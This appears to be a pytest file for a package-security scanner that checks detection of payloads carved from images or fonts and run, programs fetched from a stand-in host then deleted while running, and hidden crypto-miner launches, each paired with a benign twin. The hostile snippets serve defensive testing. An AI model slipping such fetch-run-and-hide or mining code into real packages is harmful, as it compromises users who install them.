"""Programs that code drops and starts, and what only looks like them."""

from __future__ import annotations

from typing import Any

import pytest

from adapters.sigil.local.material import Ecosystem
from adapters.sigil.models import PhaseName

_SDIST = "sample-1.0.tar.gz"
_WHEEL = "sample-1.0-py3-none-any.whl"
_SETUP = "from setuptools import setup\nsetup(name='sample')\n"
_FETCH = (
    "import os, stat, subprocess, tempfile, urllib.request\n"
    "def prepare(name):\n"
    "    path = os.path.join(tempfile.gettempdir(), 'helper')\n"
    "    urllib.request.urlretrieve('https://files.example.invalid/' + name, path)\n"
    "    os.chmod(path, 0o755)\n"
)
_CARVED = {
    "after an offset": (
        "import os, subprocess\n"
        "data = open('docs/banner.jpg', 'rb').read()\n"
        "with open('/tmp/.cache-x', 'wb') as out:\n    out.write(data[91200:])\n"
        "os.chmod('/tmp/.cache-x', 0o700)\nsubprocess.call(['/tmp/.cache-x'])\n"
    ),
    "after a mark, by a shell": (
        "import os, pathlib, tempfile\n"
        "whole = pathlib.Path('assets/font.woff2').read_bytes()\n"
        "target = os.path.join(tempfile.mkdtemp(), 'fontd')\n"
        "pathlib.Path(target).write_bytes(whole.split(b'IEND', 1)[1])\n"
        "os.system(target + ' --quiet')\n"
    ),
}
_CARVED_TWINS = {
    "a picture is made smaller": (
        "import subprocess\n"
        "data = open('docs/logo.png', 'rb').read()\n"
        "with open('build/logo.png', 'wb') as out:\n    out.write(data)\n"
        "subprocess.run(['optipng', '-o7', 'build/logo.png'], check=True)\n"
    ),
    "a version is a tag": (
        "import subprocess\nversion = open('VERSION.txt').read().strip()\nsubprocess.run(['git', 'tag', version])\n"
    ),
}
_GONE = {
    "removed at once": "    subprocess.Popen([path], start_new_session=True)\n    os.remove(path)\n",
    "by a shell in the background": "    os.system('nohup ' + path + ' >/dev/null 2>&1 &')\n    os.unlink(path)\n",
    "whatever happens": (
        "    try:\n        child = subprocess.Popen([path])\n"
        "    finally:\n        os.unlink(path)\n    return child.pid\n"
    ),
}
_GONE_TWINS = {
    "an installer is waited for": "    subprocess.check_call([path, '/S'])\n    os.remove(path)\n",
    "the end is asked for": "    child = subprocess.Popen([path])\n    child.communicate()\n    os.remove(path)\n",
    "a block waits": "    with subprocess.Popen([path]) as child:\n        print(child.pid)\n    os.remove(path)\n",
    "it stays": "    subprocess.Popen([path])\n",
    "it is what another reads": "    subprocess.Popen(['tar', '-x', '-v', '-f', path])\n    os.remove(path)\n",
}
_MINERS = (
    "import subprocess\ndef w():\n    subprocess.Popen([find(), '-o', 'p.invalid:3333', '-u', WHO, '-p', 'x'])\n",
    "import os\ndef warm(tool):\n    os.system(tool + ' --url pool.example.invalid:443 --user w --donate-level 1 &')\n",
    "import subprocess\ndef warm():\n    subprocess.run('./t -o stratum+ssl://p.example.invalid:9000', shell=True)\n",
)
_NO_MINERS = (
    "import subprocess\ndef a(user):\n    subprocess.run(['dump', '-h', 'db:3306', '-u', user, '-p', 'x', '-o'])\n",
    "import subprocess\ndef fetch(url):\n    subprocess.run(['curl', '-o', 'list.txt', '--url', url])\n",
)


@pytest.mark.parametrize("way", _CARVED)
def test_a_program_is_carved_out_of_a_picture(pack: Any, outcome: Any, way: str) -> None:
    """What an installation cuts out of a picture or font and runs is a program in disguise."""
    result = outcome(pack({"setup.py": _CARVED[way] + _SETUP}, Ecosystem.PYPI, _SDIST))
    assert "carved-program-run" in result.rules(PhaseName.CODE_PATTERNS)
    assert result.dangerous


@pytest.mark.parametrize("way", _CARVED_TWINS)
def test_pictures_and_texts_that_tools_read_are_everyday(pack: Any, outcome: Any, way: str) -> None:
    """A tool that is run over a picture, or with a text's content, runs nothing that the file holds."""
    result = outcome(pack({"setup.py": _CARVED_TWINS[way] + _SETUP}, Ecosystem.PYPI, _SDIST))
    assert "carved-program-run" not in result.rules(PhaseName.CODE_PATTERNS)
    assert not result.dangerous


@pytest.mark.parametrize("way", _GONE)
def test_a_program_is_gone_once_it_runs(pack: Any, outcome: Any, way: str) -> None:
    """A fetched program whose file is removed while it runs is hidden, though somebody has to call the function."""
    result = outcome(pack({"sample/__init__.py": _FETCH + _GONE[way]}, Ecosystem.PYPI, _WHEEL))
    assert "program-removed-running" in result.rules(PhaseName.CODE_PATTERNS)
    assert result.dangerous


@pytest.mark.parametrize("way", _GONE_TWINS)
def test_an_installer_that_ends_is_everyday(pack: Any, outcome: Any, way: str) -> None:
    """Removing what has ended, what stays, or what another program reads hides nothing."""
    result = outcome(pack({"sample/__init__.py": _FETCH + _GONE_TWINS[way]}, Ecosystem.PYPI, _WHEEL))
    assert "program-removed-running" not in result.rules(PhaseName.CODE_PATTERNS)
    assert not result.dangerous


@pytest.mark.parametrize("code", _MINERS)
def test_a_miner_is_known_by_its_arguments(pack: Any, outcome: Any, code: str) -> None:
    """A pool and a wallet in a command line make the program a miner, whatever it is called."""
    result = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, _WHEEL))
    assert "miner-run" in result.rules(PhaseName.CODE_PATTERNS)
    assert result.dangerous


@pytest.mark.parametrize("code", _NO_MINERS)
def test_other_programs_take_hosts_and_users_too(pack: Any, outcome: Any, code: str) -> None:
    """A database's host and user, or a file that is written, make no miner."""
    result = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, _WHEEL))
    assert "miner-run" not in result.rules(PhaseName.CODE_PATTERNS)


def test_a_package_for_miners_says_so(pack: Any, outcome: Any) -> None:
    """A package that tells of mining and starts a miner when it is called does what it is for."""
    files = {"sample/__init__.py": _MINERS[0], "README.md": "Starts your miner and shows its hashrate.\n"}
    assert not outcome(pack(files, Ecosystem.PYPI, _WHEEL)).dangerous
